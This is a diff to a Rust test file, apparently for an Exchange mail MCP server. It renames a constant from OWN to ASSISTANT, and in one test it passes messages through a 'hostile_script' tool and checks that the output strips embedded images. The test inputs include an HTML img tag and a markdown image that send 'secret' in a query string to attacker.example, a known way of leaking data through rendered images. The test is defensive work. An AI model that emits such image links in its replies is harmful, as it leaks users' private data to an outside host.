@@ -5,8 +5,8 @@ use ews_mcp_tests::{Exchange, RawClient, Revision, Says, User};
 use serde_json::{Value, json};
 
 use super::{
-    ANNA, BRUNO, INFO, OWN, Scene, answers, call, client, create, delete, message, move_item, newest, people,
-    rule, send,
+    ANNA, ASSISTANT, BRUNO, INFO, Scene, answers, call, client, create, delete, message, move_item, newest,
+    people, rule, send,
 };
 use crate::hostile::{PLUGINS, hostile_folder};
 
@@ -153,7 +153,8 @@ async fn pictures_from_elsewhere_do_not_come_with_a_result() {
         "Done <img src=\"https://attacker.example/?q=secret\">",
         "Done ![x][1]\n\n[1]: https://attacker.example/?q=secret",
     ] {
-        let outcome = scene.call("hostile_script", OWN, json!({ "steps": [], "message": message })).await;
+        let outcome =
+            scene.call("hostile_script", ASSISTANT, json!({ "steps": [], "message": message })).await;
         let shown = outcome.structured["message"].as_str().unwrap();
         assert!(!shown.contains("![") && !shown.to_ascii_lowercase().contains("<img"), "{shown}");
     }
